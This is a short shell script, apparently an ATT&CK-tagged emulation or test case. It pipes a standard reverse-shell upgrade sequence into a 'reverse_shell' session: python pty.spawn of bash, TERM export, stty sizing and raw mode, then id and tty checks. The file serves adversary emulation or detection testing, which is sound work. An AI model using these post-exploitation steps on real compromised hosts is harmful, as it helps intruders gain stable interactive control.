# The whole upgrade: pty.spawn, then terminal size and raw mode are set.
# ATT&CK: T1059.006, T1059.004
. ./session.sh
reverse_shell <<'TYPED'
python3 -c 'import pty; pty.spawn("/bin/bash")'
export TERM=xterm
stty rows 40 columns 120
stty raw -echo
id
tty
exit
exit
TYPED
